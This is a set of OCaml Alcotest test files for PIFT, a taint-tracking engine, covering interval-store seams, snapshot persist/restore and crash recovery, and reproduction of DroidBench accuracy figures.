  let page = Store_hybrid.page_size h in
  Store_hybrid.add h (Range.of_len page page);
  checkb "full page went dense" true (Store_hybrid.dense_pages h >= 1);
  Store_hybrid.add h (Range.of_len (page - 4) 4);
  checki "seam-adjacent runs are one range" 1 (Store_hybrid.cardinal h);
  checkb "one canonical range across the seam" true
    (Store_hybrid.ranges h = [ Range.make (page - 4) ((2 * page) - 1) ]);
  checki "bytes across the seam" (page + 4) (Store_hybrid.total_bytes h);
  (* removing exactly the seam byte pair splits it back *)
  Store_hybrid.remove h (Range.make (page - 1) page);
  checki "cutting the seam splits the range" 2 (Store_hybrid.cardinal h);
  checkb "split stubs are closed" true
    (Store_hybrid.ranges h
    = [ Range.make (page - 4) (page - 2); Range.make (page + 1) ((2 * page) - 1) ])

(* --- end-to-end: DroidBench sweep, byte-identical across backends ------- *)

let sweep_output backend =
  let sweep =
    Pift_eval.Accuracy.sweep ~backend ~nis:[ 1; 5; 9; 13 ] ~nts:[ 1; 3 ]
      Pift_workloads.Droidbench.subset48
  in
  (sweep, Format.asprintf "%t" (fun ppf -> Pift_eval.Accuracy.render sweep ppf ()))

let test_sweep_byte_identical () =
  let functional, functional_out = sweep_output Store.Functional in
  List.iter
    (fun backend ->
      let name s = Store.backend_to_string backend ^ ": " ^ s in
      let other, other_out = sweep_output backend in
      checkb (name "confusion cells identical") true
        (functional.Pift_eval.Accuracy.cells = other.Pift_eval.Accuracy.cells);
      Alcotest.(check string)
        (name "rendered sweep byte-identical")
        functional_out other_out)
    [ Store.Flat; Store.Hybrid ]

let () =
  Alcotest.run "pift_store"
    [
      ( "differential",
        [
          Alcotest.test_case "functional/flat/hybrid/bytemap agree (12.5k ops)"
            `Quick test_differential;
          Alcotest.test_case "long sequences (10k ops)" `Quick
            test_differential_long;
        ] );
      ( "conventions",
        [
          Alcotest.test_case "closed intervals: hi+1 adjacency" `Quick
            test_closed_interval_adjacency;
          Alcotest.test_case "per-pid isolation" `Quick
            test_store_per_pid_isolation;
          Alcotest.test_case "read paths are pure" `Quick
            test_store_read_purity;
          Alcotest.test_case "incremental totals match recounts" `Quick
            test_store_incremental_totals;
        ] );
      ( "hybrid",
        [
          Alcotest.test_case "promotion and demotion" `Quick
            test_hybrid_promotion_demotion;
          Alcotest.test_case "page-seam canonical form" `Quick
            test_hybrid_page_seam;
        ] );
      ( "end-to-end",
        [
          Alcotest.test_case "DroidBench sweep byte-identical" `Quick
            test_sweep_byte_identical;
        ] );
    ]
