(* Durability tests: the PIFTSNAP1 snapshot format and the recovery
   contract.

   - a seeded round-trip property: persist∘restore is the identity for
     every store backend × provenance mode, checked structurally, at
     the byte level, and differentially — a restored tracker must be
     indistinguishable from a bytemap-oracle tracker that was never
     persisted, including on a fresh op suffix (windows, peaks and
     origin sets all have to survive the trip for that to hold);
   - corrupt-fixture decoding: truncation, bad magic, wrong version and
     non-hex pid records all fail with a positioned
     [Snapshot: record N] error, never a bare exception, and the
     streaming reader delivers every intact prefix record first;
   - fault-injection crash/recovery differentials: kill a shard
     consumer mid-ingest through the production Spsc abort path,
     restore the last snapshot into a fresh engine (same or different
     shard count), resume from the recorded cursors, and require the
     final tenant state to equal an uninterrupted run's;
   - the restore/evict occupancy invariant: restoring a tenant and then
     evicting it returns the shard gauge to the survivors' baseline. *)

module Range = Pift_util.Range
module Rng = Pift_util.Rng
module Policy = Pift_core.Policy
module Store = Pift_core.Store
module Tracker = Pift_core.Tracker
module Provenance = Pift_core.Provenance
module Registry = Pift_obs.Registry
module Event = Pift_trace.Event
module Insn = Pift_arm.Insn
module Droidbench = Pift_workloads.Droidbench
module Recorded = Pift_eval.Recorded
module Engine = Pift_service.Engine
module Ingest = Pift_service.Ingest
module Admin = Pift_service.Admin
module Snapshot = Pift_service.Snapshot

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)
let checks = Alcotest.(check string)

let app name =
  match Droidbench.find name with
  | Some a -> a
  | None -> Alcotest.failf "unknown app %s" name

(* Recordings shared across cases (recording is the slow part). *)
let recordings =
  lazy
    (List.map
       (fun n -> Recorded.record (app n))
       [ "StringConcat1"; "DirectLeak1"; "LogLeak1"; "Obfuscation1" ])

let with_tmp ~suffix f =
  let path = Filename.temp_file "pift_recovery_test" suffix in
  Fun.protect
    ~finally:(fun () -> try Sys.remove path with Sys_error _ -> ())
    (fun () -> f path)

(* --- round-trip property -------------------------------------------------- *)

(* Tracker-level ops: sources, untaints, observed loads/stores (the
   window-driving fast path) and sink queries whose answers are the
   observable output a restore must preserve. *)
type top =
  | T_source of int * string * Range.t
  | T_untaint of int * Range.t
  | T_load of int * Range.t
  | T_store of int * Range.t
  | T_sink of int * Range.t

let top_to_string = function
  | T_source (pid, l, r) ->
      Printf.sprintf "source p%d %s %s" pid l (Range.to_string r)
  | T_untaint (pid, r) -> Printf.sprintf "untaint p%d %s" pid (Range.to_string r)
  | T_load (pid, r) -> Printf.sprintf "load p%d %s" pid (Range.to_string r)
  | T_store (pid, r) -> Printf.sprintf "store p%d %s" pid (Range.to_string r)
  | T_sink (pid, r) -> Printf.sprintf "sink p%d %s" pid (Range.to_string r)

let labels = [| "IMEI"; "GPS"; "SMS" |]

let gen_top rng =
  let pid = 1 + Rng.int rng 3 in
  match Rng.int rng 10 with
  | 0 | 1 ->
      T_source (pid, labels.(Rng.int rng (Array.length labels)), Prop.gen_range rng)
  | 2 -> T_untaint (pid, Prop.gen_range rng)
  | 3 | 4 | 5 -> T_load (pid, Prop.gen_range rng)
  | 6 | 7 | 8 -> T_store (pid, Prop.gen_range rng)
  | _ -> T_sink (pid, Prop.gen_range rng)

let gen_tops rng n =
  let rec go k acc = if k = 0 then List.rev acc else go (k - 1) (gen_top rng :: acc) in
  go n []

(* Per-pid instruction counters after [ops] — a pure function of the
   sequence, so a restored tracker's suffix run can resume the counters
   exactly where the persisted prefix left them. *)
let k_table ops =
  let t = Hashtbl.create 8 in
  List.iter
    (fun op ->
      match op with
      | T_load (pid, _) | T_store (pid, _) ->
          Hashtbl.replace t pid (1 + Option.value ~default:0 (Hashtbl.find_opt t pid))
      | T_source _ | T_untaint _ | T_sink _ -> ())
    ops;
  t

(* Apply [ops]; the returned strings are every observable answer
   (sink verdicts and origin sets), the currency the differential
   comparisons run on. *)
let run_ops tr ops ~seq0 ~ks =
  let out = ref [] in
  List.iteri
    (fun i op ->
      let seq = seq0 + i in
      let observe pid access =
        let k = 1 + Option.value ~default:0 (Hashtbl.find_opt ks pid) in
        Hashtbl.replace ks pid k;
        Tracker.observe tr { Event.seq; k; pid; insn = Insn.Nop; access }
      in
      match op with
      | T_source (pid, label, r) -> Tracker.taint_source ~kind:label tr ~pid r
      | T_untaint (pid, r) -> Tracker.untaint_range tr ~pid r
      | T_load (pid, r) -> observe pid (Event.Load r)
      | T_store (pid, r) -> observe pid (Event.Store r)
      | T_sink (pid, r) ->
          out :=
            Printf.sprintf "sink p%d %s -> %b [%s]" pid (Range.to_string r)
              (Tracker.is_tainted tr ~pid r)
              (String.concat "," (Tracker.origins_of tr ~pid r))
            :: !out)
    ops;
  List.rev !out

let bytes_of_ranges ranges =
  let a = Bytes.make 1024 '\000' in
  List.iter
    (fun r ->
      for i = Range.lo r to min 1023 (Range.hi r) do
        Bytes.set a i '\001'
      done)
    ranges;
  Bytes.to_string a

let rec take n = function
  | x :: tl when n > 0 -> x :: take (n - 1) tl
  | _ -> []

let rec drop n = function _ :: tl when n > 0 -> drop (n - 1) tl | l -> l

let mk_tracker ~backend ~prov_on () =
  let prov =
    if prov_on then Some (Provenance.create ~backend ()) else None
  in
  Tracker.create ~store:(Store.create ~backend ()) ?prov ()

(* One case: prefix on tracker A and on a bytemap-oracle tracker O
   (their answers must already agree — the store differential), then
   persist A, restore into a fresh B, and check three ways:
   structurally (persist B = persist A), at the byte level (the
   persisted intervals expand to exactly B's live bytes), and
   behaviourally (a fresh op suffix gives identical answers on A, B
   and O — windows, peaks, provenance and all). *)
let roundtrip_prop ~backend ~prov_on ops =
  let split = max 1 (List.length ops * 3 / 5) in
  let pre = take split ops and suf = drop split ops in
  let a = mk_tracker ~backend ~prov_on () in
  let o = mk_tracker ~backend:Store.Bytemap ~prov_on () in
  let out_a = run_ops a pre ~seq0:0 ~ks:(k_table []) in
  let out_o = run_ops o pre ~seq0:0 ~ks:(k_table []) in
  if out_a <> out_o then Error "prefix diverged from bytemap oracle"
  else begin
    let p = Tracker.persist a in
    let b = mk_tracker ~backend ~prov_on () in
    Tracker.restore b p;
    let p' = Tracker.persist b in
    if p' <> p then Error "persist (restore p) <> p"
    else begin
      let byte_mismatch =
        List.find_opt
          (fun pid ->
            let persisted =
              Option.value ~default:[] (List.assoc_opt pid p.Tracker.p_store)
            in
            bytes_of_ranges persisted
            <> bytes_of_ranges (Tracker.tainted_ranges b ~pid))
          [ 1; 2; 3 ]
      in
      match byte_mismatch with
      | Some pid ->
          Error (Printf.sprintf "restored bytes differ for pid %d" pid)
      | None ->
          let out_sa = run_ops a suf ~seq0:split ~ks:(k_table pre) in
          let out_sb = run_ops b suf ~seq0:split ~ks:(k_table pre) in
          let out_so = run_ops o suf ~seq0:split ~ks:(k_table pre) in
          if out_sb <> out_sa then
            Error "suffix answers: restored tracker diverged from original"
          else if out_sb <> out_so then
            Error "suffix answers: restored tracker diverged from oracle"
          else if Tracker.persist a <> Tracker.persist b then
            Error "post-suffix persisted states diverged"
          else Ok ()
    end
  end

let test_roundtrip_property () =
  List.iter
    (fun backend ->
      List.iter
        (fun prov_on ->
          Prop.check_gen
            ~name:
              (Printf.sprintf "snapshot roundtrip (%s, prov=%b)"
                 (Store.backend_to_string backend)
                 prov_on)
            ~count:20
            ~gen:(fun rng -> gen_tops rng 100)
            ~shrink:Prop.shrink_candidates
            ~to_string:(fun ops ->
              Printf.sprintf "(%d ops): %s" (List.length ops)
                (String.concat "; " (List.map top_to_string ops)))
            (roundtrip_prop ~backend ~prov_on))
        [ false; true ])
    [ Store.Functional; Store.Flat; Store.Hybrid ]

(* --- snapshot files: write/load identity ---------------------------------- *)

let stats_equal (a : Tracker.stats) (b : Tracker.stats) = a = b

let tenant_equal (a : Admin.tenant_snapshot) (b : Admin.tenant_snapshot) =
  (* everything but ts_shard, which legitimately differs across shard
     counts *)
  String.equal a.Admin.ts_name b.Admin.ts_name
  && a.Admin.ts_pid = b.Admin.ts_pid
  && a.Admin.ts_verdicts = b.Admin.ts_verdicts
  && stats_equal a.Admin.ts_stats b.Admin.ts_stats
  && a.Admin.ts_tainted_bytes = b.Admin.ts_tainted_bytes
  && a.Admin.ts_ranges = b.Admin.ts_ranges

let run_engine ~shards ?(with_origins = true) f =
  let recs = Lazy.force recordings in
  Engine.with_engine ~shards ~policy:Policy.default ~with_origins (fun eng ->
      let sources =
        List.mapi
          (fun i r -> Ingest.of_recorded ~pid:(Ingest.tenant_pid i) r)
          recs
      in
      f eng sources)

let test_write_load_identity () =
  run_engine ~shards:2 (fun eng sources ->
      Ingest.run eng sources;
      let entries = Snapshot.source_entries sources in
      let t = Snapshot.of_engine ~sources:entries eng in
      with_tmp ~suffix:".piftsnap" (fun path ->
          Snapshot.write path t;
          let t' = Snapshot.load path in
          checkb "load (write t) = t" true (t' = t);
          (* streamed record count matches the structure *)
          let n = ref 0 in
          Snapshot.iter path (fun _ -> incr n);
          checki "record count" (1 + List.length t.Snapshot.sources
                                 + List.length t.Snapshot.tenants)
            !n))

(* Engine states persist identically at any shard count: the durable
   form may not leak shard placement. *)
let test_persist_shard_free () =
  let persist_at shards =
    run_engine ~shards (fun eng sources ->
        Ingest.run eng sources;
        Admin.persist_tenants eng)
  in
  let p1 = persist_at 1 in
  checkb "persist shards=1 equals shards=2" true (p1 = persist_at 2);
  checkb "persist shards=1 equals shards=4" true (p1 = persist_at 4)

(* --- corrupt fixtures ----------------------------------------------------- *)

let read_file path = In_channel.with_open_bin path In_channel.input_all

let write_file path s =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc s)

let sample_snapshot_bytes f =
  run_engine ~shards:2 (fun eng sources ->
      Ingest.run eng sources;
      let entries = Snapshot.source_entries sources in
      with_tmp ~suffix:".piftsnap" (fun path ->
          Admin.save_snapshot ~sources:entries eng path;
          f (Snapshot.load path) (read_file path)))

let expect_positioned_failure ~what f =
  match f () with
  | _ -> Alcotest.failf "%s: expected a positioned failure" what
  | exception Failure msg ->
      checkb
        (Printf.sprintf "%s error is positioned (%s)" what msg)
        true
        (String.length msg >= 16 && String.sub msg 0 16 = "Snapshot: record");
      msg
  | exception e ->
      Alcotest.failf "%s: bare exception %s escaped" what (Printexc.to_string e)

let test_corrupt_truncated () =
  sample_snapshot_bytes (fun t full ->
      with_tmp ~suffix:".piftsnap" (fun cut_path ->
          (* chop mid-record: prefix records stay intact, the cut one
             must fail with its record number *)
          write_file cut_path (String.sub full 0 (String.length full * 2 / 3));
          let delivered = ref [] in
          let msg =
            expect_positioned_failure ~what:"truncated" (fun () ->
                Snapshot.iter cut_path (fun r -> delivered := r :: !delivered))
          in
          checkb "mentions truncation" true
            (String.length msg > 0
            && (let has sub =
                  let n = String.length sub and m = String.length msg in
                  let rec go i = i + n <= m && (String.sub msg i n = sub || go (i + 1)) in
                  go 0
                in
                has "truncated"));
          (* every intact prefix record was delivered, manifest first *)
          let delivered = List.rev !delivered in
          checkb "prefix delivered" true (List.length delivered > 0);
          (match delivered with
          | Snapshot.R_manifest m :: _ ->
              checkb "manifest intact" true (m = t.Snapshot.manifest)
          | _ -> Alcotest.fail "first delivered record is not the manifest");
          (* load also rejects it *)
          ignore
            (expect_positioned_failure ~what:"truncated load" (fun () ->
                 Snapshot.load cut_path))))

let test_corrupt_record_boundary_truncation () =
  (* Truncation at an exact record boundary reads as a clean EOF to the
     streaming layer; the manifest's expected counts must catch it. *)
  sample_snapshot_bytes (fun t _ ->
      with_tmp ~suffix:".piftsnap" (fun path ->
          let short =
            {
              t with
              Snapshot.tenants =
                take (List.length t.Snapshot.tenants - 1) t.Snapshot.tenants;
            }
          in
          Snapshot.write path short;
          let msg =
            expect_positioned_failure ~what:"boundary truncation" (fun () ->
                Snapshot.load path)
          in
          checkb
            (Printf.sprintf "count mismatch reported (%s)" msg)
            true
            (let has sub =
               let n = String.length sub and m = String.length msg in
               let rec go i = i + n <= m && (String.sub msg i n = sub || go (i + 1)) in
               go 0
             in
             has "expected 4 tenant records, got 3")))

let test_corrupt_bad_magic () =
  sample_snapshot_bytes (fun _ full ->
      with_tmp ~suffix:".piftsnap" (fun path ->
          let b = Bytes.of_string full in
          Bytes.set b 0 'X';
          write_file path (Bytes.to_string b);
          let msg =
            expect_positioned_failure ~what:"bad magic" (fun () ->
                Snapshot.load path)
          in
          checks "magic error" "Snapshot: record 0: bad magic" msg;
          (* empty file: also a positioned magic failure *)
          write_file path "";
          ignore
            (expect_positioned_failure ~what:"empty file" (fun () ->
                 Snapshot.load path))))

let test_corrupt_wrong_version () =
  sample_snapshot_bytes (fun _ full ->
      with_tmp ~suffix:".piftsnap" (fun path ->
          let b = Bytes.of_string full in
          Bytes.set b 8 '7';
          write_file path (Bytes.to_string b);
          let msg =
            expect_positioned_failure ~what:"wrong version" (fun () ->
                Snapshot.load path)
          in
          checks "version error"
            "Snapshot: record 0: unsupported snapshot version '7' (want '1')"
            msg))

let test_corrupt_non_hex_pid () =
  sample_snapshot_bytes (fun _ full ->
      (* tenant 0's engine pid is 0x100000: its source record encodes
         the length-prefixed hex string "\006100000".  Poison one digit
         in place — same length, so every other record stays intact. *)
      let needle = "\006100000" in
      let idx =
        let n = String.length needle in
        let rec go i =
          if i + n > String.length full then
            Alcotest.fail "hex pid bytes not found in snapshot"
          else if String.sub full i n = needle then i
          else go (i + 1)
        in
        go 0
      in
      let b = Bytes.of_string full in
      Bytes.set b (idx + 1) 'g';
      with_tmp ~suffix:".piftsnap" (fun path ->
          write_file path (Bytes.to_string b);
          let delivered = ref 0 in
          let msg =
            expect_positioned_failure ~what:"non-hex pid" (fun () ->
                Snapshot.iter path (fun _ -> incr delivered))
          in
          checks "non-hex error"
            "Snapshot: record 2: non-hex pid record: \"g00000\"" msg;
          (* the manifest (record 1) was still delivered *)
          checki "intact prefix delivered" 1 !delivered))

(* --- crash / recovery differential ---------------------------------------- *)

(* Uninterrupted reference run at [shards]. *)
let clean_run ~shards =
  run_engine ~shards (fun eng sources ->
      Ingest.run eng sources;
      List.map
        (fun (s : Ingest.source) ->
          Option.get (Admin.snapshot_tenant eng ~pid:s.Ingest.src_pid))
        sources)

(* Kill shard [fault_shard]'s consumer [after_items] items after the
   [crash_at]-th snapshot, through the production abort path; then
   restore the last snapshot into a fresh engine with [resume_shards]
   shards, skip every source to its recorded cursor, resume, and
   compare against the uninterrupted run. *)
let crash_recovery_differential ~shards ~resume_shards ~crash_at ~fault_shard
    ~after_items () =
  let clean = clean_run ~shards in
  with_tmp ~suffix:".piftsnap" (fun snap_path ->
      let crashed =
        run_engine ~shards (fun eng sources ->
            let snaps = ref 0 in
            let on_idle () =
              Admin.save_snapshot
                ~sources:(Snapshot.source_entries sources)
                eng snap_path;
              incr snaps;
              if !snaps = crash_at then
                Engine.inject_fault eng ~shard:fault_shard ~after_items
            in
            match Ingest.run ~segment:50 ~on_idle eng sources with
            | () -> None
            | exception Engine.Injected_fault sh -> Some sh)
      in
      (match crashed with
      | Some sh -> checki "fault raised from armed shard" fault_shard sh
      | None ->
          Alcotest.fail "workload finished before the injected fault fired");
      let snap = Snapshot.load snap_path in
      (* the snapshot is a strict prefix: the crash lost in-flight work *)
      let snap_items =
        List.fold_left
          (fun acc (se : Snapshot.source_entry) -> acc + se.Snapshot.se_cursor)
          0 snap.Snapshot.sources
      in
      checkb "snapshot is mid-stream" true (snap_items > 0);
      Engine.with_engine ~shards:resume_shards ~policy:Policy.default
        ~with_origins:true (fun eng ->
          Snapshot.restore_tenants eng snap;
          let recs = Lazy.force recordings in
          let sources =
            List.mapi
              (fun i r -> Ingest.of_recorded ~pid:(Ingest.tenant_pid i) r)
              recs
          in
          List.iter
            (fun (s : Ingest.source) ->
              let se =
                List.find
                  (fun (se : Snapshot.source_entry) ->
                    se.Snapshot.se_pid = s.Ingest.src_pid)
                  snap.Snapshot.sources
              in
              Ingest.skip s se.Snapshot.se_cursor)
            sources;
          Ingest.run eng sources;
          List.iter2
            (fun (c : Admin.tenant_snapshot) (s : Ingest.source) ->
              let ts =
                Option.get (Admin.snapshot_tenant eng ~pid:s.Ingest.src_pid)
              in
              checkb
                (Printf.sprintf
                   "resumed tenant %s equals uninterrupted (s%d -> s%d)"
                   ts.Admin.ts_name shards resume_shards)
                true (tenant_equal c ts))
            clean sources))

let test_crash_recovery_s1 () =
  crash_recovery_differential ~shards:1 ~resume_shards:1 ~crash_at:2
    ~fault_shard:0 ~after_items:17 ()

let test_crash_recovery_s2 () =
  crash_recovery_differential ~shards:2 ~resume_shards:2 ~crash_at:3
    ~fault_shard:1 ~after_items:0 ()

let test_crash_recovery_s4 () =
  (* shard 1 holds tenant 0 (StringConcat1), the longest stream — the
     fault lands well before its items dry up *)
  crash_recovery_differential ~shards:4 ~resume_shards:4 ~crash_at:2
    ~fault_shard:1 ~after_items:7 ()

let test_crash_recovery_reshard () =
  (* crash at 2 shards, recover into 4 and into 1 *)
  crash_recovery_differential ~shards:2 ~resume_shards:4 ~crash_at:4
    ~fault_shard:0 ~after_items:3 ();
  crash_recovery_differential ~shards:2 ~resume_shards:1 ~crash_at:4
    ~fault_shard:1 ~after_items:29 ()

(* The engine survives an injected fault: the abort path must leave it
   usable for admin reads and further runs (that is what the restore
   tooling leans on). *)
let test_engine_survives_fault () =
  run_engine ~shards:2 (fun eng sources ->
      Engine.inject_fault eng ~shard:0 ~after_items:40;
      (match Ingest.run eng sources with
      | () -> Alcotest.fail "expected injected fault"
      | exception Engine.Injected_fault _ -> ());
      ignore (Admin.stats eng);
      (* a fresh run on the same engine still works *)
      let r = List.hd (Lazy.force recordings) in
      let pid = Ingest.tenant_pid 9 in
      Ingest.run eng [ Ingest.of_recorded ~pid r ];
      checkb "post-fault ingest works" true
        (Admin.snapshot_tenant eng ~pid <> None))

(* --- restore / evict occupancy -------------------------------------------- *)

let gauge_bytes eng =
  Array.fold_left
    (fun acc reg ->
      match Registry.find_gauge reg "pift_service_tainted_bytes" with
      | Some v -> acc +. v
      | None -> acc)
    0. (Admin.registries eng)

let test_restore_then_evict_gauge () =
  run_engine ~shards:2 (fun eng sources ->
      Ingest.run eng sources;
      let pid0 = Ingest.tenant_pid 0 in
      let full = int_of_float (gauge_bytes eng) in
      let ts_before = Option.get (Admin.snapshot_tenant eng ~pid:pid0) in
      let tp0 = Option.get (Admin.persist_tenant eng ~pid:pid0) in
      checkb "evicted" true (Admin.evict_tenant eng ~pid:pid0);
      let survivors = int_of_float (gauge_bytes eng) in
      checki "eviction released the tenant's bytes"
        (full - ts_before.Admin.ts_tainted_bytes)
        survivors;
      (* restore the persisted tenant: occupancy returns in full *)
      Admin.restore_tenant eng tp0;
      checki "gauge after restore" full (int_of_float (gauge_bytes eng));
      let ts_after = Option.get (Admin.snapshot_tenant eng ~pid:pid0) in
      checkb "restored tenant equals pre-evict snapshot" true
        (tenant_equal ts_before ts_after);
      (* restoring over a resident pid is refused *)
      (match Admin.restore_tenant eng tp0 with
      | () -> Alcotest.fail "double restore must be refused"
      | exception Invalid_argument _ -> ());
      (* evicting the restored tenant lands exactly back on the
         survivors' baseline — the restored occupancy was folded into
         the gauge, not leaked beside it *)
      checkb "evicted again" true (Admin.evict_tenant eng ~pid:pid0);
      checki "gauge back at survivors' baseline" survivors
        (int_of_float (gauge_bytes eng)))

(* --- restore guard rails --------------------------------------------------- *)

let test_restore_config_mismatch () =
  let snap =
    run_engine ~shards:2 (fun eng sources ->
        Ingest.run eng sources;
        Snapshot.of_engine eng)
  in
  let refuse ~what mk =
    Engine.with_engine ~shards:2 ~with_origins:true (fun eng ->
        ignore eng;
        match mk () with
        | () -> Alcotest.failf "%s: mismatched restore must be refused" what
        | exception Invalid_argument _ -> ())
  in
  refuse ~what:"policy" (fun () ->
      Engine.with_engine ~shards:2 ~with_origins:true
        ~policy:(Policy.make ~ni:2 ~nt:1 ()) (fun eng ->
          Snapshot.restore_tenants eng snap));
  refuse ~what:"backend" (fun () ->
      Engine.with_engine ~shards:2 ~with_origins:true ~backend:Store.Flat
        (fun eng -> Snapshot.restore_tenants eng snap));
  refuse ~what:"origins" (fun () ->
      Engine.with_engine ~shards:2 ~with_origins:false (fun eng ->
          Snapshot.restore_tenants eng snap));
  refuse ~what:"pid_range" (fun () ->
      Engine.with_engine ~shards:2 ~with_origins:true ~pid_range:4096
        (fun eng -> Snapshot.restore_tenants eng snap))

let test_skip_past_end_fails () =
  let r = List.hd (Lazy.force recordings) in
  let s = Ingest.of_recorded ~pid:(Ingest.tenant_pid 0) r in
  match Ingest.skip s 1_000_000 with
  | () -> Alcotest.fail "skip past end of trace must fail"
  | exception Failure msg ->
      checkb
        (Printf.sprintf "skip failure names the source (%s)" msg)
        true
        (String.length msg > 0)

let () =
  Alcotest.run "recovery"
    [
      ( "roundtrip",
        [
          Alcotest.test_case
            "persist/restore identity, all backends x prov (12k ops)" `Slow
            test_roundtrip_property;
          Alcotest.test_case "write/load identity + record count" `Quick
            test_write_load_identity;
          Alcotest.test_case "persisted state is shard-count-free" `Quick
            test_persist_shard_free;
        ] );
      ( "corrupt",
        [
          Alcotest.test_case "truncated mid-record" `Quick
            test_corrupt_truncated;
          Alcotest.test_case "truncated at a record boundary" `Quick
            test_corrupt_record_boundary_truncation;
          Alcotest.test_case "bad magic / empty file" `Quick
            test_corrupt_bad_magic;
          Alcotest.test_case "wrong version byte" `Quick
            test_corrupt_wrong_version;
          Alcotest.test_case "non-hex pid record" `Quick
            test_corrupt_non_hex_pid;
        ] );
      ( "crash-recovery",
        [
          Alcotest.test_case "kill+restore+resume = uninterrupted (1 shard)"
            `Slow test_crash_recovery_s1;
          Alcotest.test_case "kill+restore+resume = uninterrupted (2 shards)"
            `Slow test_crash_recovery_s2;
          Alcotest.test_case "kill+restore+resume = uninterrupted (4 shards)"
            `Slow test_crash_recovery_s4;
          Alcotest.test_case "crash at 2 shards, recover at 4 and 1" `Slow
            test_crash_recovery_reshard;
          Alcotest.test_case "engine survives an injected fault" `Quick
            test_engine_survives_fault;
        ] );
      ( "lifecycle",
        [
          Alcotest.test_case "restore-then-evict returns gauge to baseline"
            `Quick test_restore_then_evict_gauge;
          Alcotest.test_case "mismatched restore is refused" `Quick
            test_restore_config_mismatch;
          Alcotest.test_case "skip past end of trace fails" `Quick
            test_skip_past_end_fails;
        ] );
    ]
