(* Integration tests for the evaluation layer: the paper's headline
   numbers must reproduce exactly on the shipped suite, the overhead
   regimes must have the right shape, and the record/replay machinery
   must be deterministic. *)

module Policy = Pift_core.Policy
module Tracker = Pift_core.Tracker
module Storage = Pift_core.Storage
module Store = Pift_core.Store
module Range = Pift_util.Range
module App = Pift_workloads.App
module Droidbench = Pift_workloads.Droidbench
module Malware = Pift_workloads.Malware
module Recorded = Pift_eval.Recorded
module Accuracy = Pift_eval.Accuracy
module Overhead = Pift_eval.Overhead
module Tracestats = Pift_eval.Tracestats
module Table1 = Pift_eval.Table1

let checkb = Alcotest.(check bool)
let checki = Alcotest.(check int)

(* A scaled-down LGRoot shared by the overhead tests. *)
let small_lgroot =
  lazy (Recorded.record (Malware.lgroot_sized ~rounds:6 ~payload_chars:512))

let app name =
  match Droidbench.find name with
  | Some a -> a
  | None -> Alcotest.failf "unknown app %s" name

(* --- record / replay mechanics ------------------------------------------- *)

let test_recording_structure () =
  let r = Recorded.record (app "StringConcat1") in
  checkb "has events" true (Pift_trace.Trace.length r.Recorded.trace > 100);
  checkb "has markers" true (Array.length r.Recorded.markers >= 2);
  (* markers are time-ordered *)
  let sorted = ref true in
  Array.iteri
    (fun i (seq, _) ->
      if i > 0 && seq < fst r.Recorded.markers.(i - 1) then sorted := false)
    r.Recorded.markers;
  checkb "markers ordered" true !sorted;
  (* source comes before sink here *)
  (match r.Recorded.markers.(0) with
  | _, Recorded.Source _ -> ()
  | _ -> Alcotest.fail "expected a source marker first");
  checkb "bytecodes counted" true (r.Recorded.bytecodes > 5)

let test_replay_deterministic () =
  let r = Recorded.record (app "BatchLeak1") in
  let a = Recorded.replay ~policy:Policy.default r in
  let b = Recorded.replay ~policy:Policy.default r in
  checkb "same verdicts" true (a.Recorded.verdicts = b.Recorded.verdicts);
  checki "same taint ops" a.Recorded.stats.Tracker.taint_ops
    b.Recorded.stats.Tracker.taint_ops;
  (* records of the same app are reproducible too *)
  let r2 = Recorded.record (app "BatchLeak1") in
  checki "same trace length"
    (Pift_trace.Trace.length r.Recorded.trace)
    (Pift_trace.Trace.length r2.Recorded.trace)

(* --- §5.1 headline accuracy ------------------------------------------------ *)

let test_headline_accuracy () =
  let c = Accuracy.evaluate ~policy:Policy.default Droidbench.subset48 in
  checki "TP at (13,3)" 31 c.Accuracy.tp;
  checki "FP at (13,3)" 0 c.Accuracy.fp;
  checki "TN at (13,3)" 16 c.Accuracy.tn;
  checki "FN at (13,3)" 1 c.Accuracy.fn;
  let c100 =
    Accuracy.evaluate ~policy:Policy.perfect_droidbench Droidbench.subset48
  in
  checki "FN at (18,3)" 0 c100.Accuracy.fn;
  checki "FP at (18,3)" 0 c100.Accuracy.fp

let test_single_false_negative_is_implicit_flow2 () =
  let missed = Accuracy.misclassified ~policy:Policy.default Droidbench.all in
  match missed with
  | [ ("ImplicitFlow2", `False_negative) ] -> ()
  | other ->
      Alcotest.failf "unexpected misclassifications: %s"
        (String.concat ", " (List.map fst other))

let test_accuracy_staircase () =
  let sweep =
    Accuracy.sweep ~nis:[ 3; 4; 9; 13; 18 ] ~nts:[ 1; 2; 3 ]
      Droidbench.subset48
  in
  let acc ni nt = 100. *. Accuracy.accuracy (Accuracy.cell sweep ~ni ~nt) in
  let close a b = Float.abs (a -. b) < 0.1 in
  checkb "79.2 at (3,1)" true (close (acc 3 1) 79.167);
  checkb "83.3 at (4,2)" true (close (acc 4 2) 83.333);
  checkb "95.8 at (9,3)" true (close (acc 9 3) 95.833);
  checkb "97.9 at (13,3)" true (close (acc 13 3) 97.917);
  checkb "100 at (18,3)" true (close (acc 18 3) 100.);
  (* no false positives anywhere on the grid *)
  List.iter
    (fun ((_, _), c) -> checki "zero FP" 0 c.Accuracy.fp)
    sweep.Accuracy.cells;
  (* monotone in NI at NT=3 *)
  let ordered = List.map (fun ni -> acc ni 3) [ 3; 4; 9; 13; 18 ] in
  checkb "monotone staircase" true
    (List.sort compare ordered = ordered)

(* The exact minimal window of every leaky app in the Fig. 11 subset —
   the band structure behind the accuracy staircase, pinned so workload
   or translation drift is caught immediately. *)
let subset_min_windows =
  [
    ("DirectLeak1", 1); ("SourceCodeSpecific1", 1); ("FieldSensitivity2", 1);
    ("ObjectSensitivity2", 1); ("StaticInitialization1", 1);
    ("ActivityLifecycle1", 1); ("ServiceLifecycle1", 1); ("ArrayAccess2", 1);
    ("ListAccess2", 1); ("IntentSink1", 1); ("Reflection1", 1);
    ("Exceptions1", 1); ("StringConcat1", 2); ("LogLeak1", 2);
    ("PhoneNumber1", 2); ("Serial1", 2); ("DeviceId1", 2); ("Substring1", 2);
    ("StringToUpper1", 2); ("Obfuscation1", 2); ("ArrayCopy1", 2);
    ("Button1", 2); ("BatchLeak1", 3); ("SbChain1", 3); ("Loop2", 5);
    ("ActivityLifecycle2", 5); ("Exceptions2", 5); ("Loop1", 6);
    ("ImplicitFlow1", 7); ("WideLeak1", 9); ("LocationLeak1", 10);
    ("ImplicitFlow2", 18);
  ]

let test_detection_thresholds () =
  let pinned =
    List.sort_uniq String.compare (List.map fst subset_min_windows)
  in
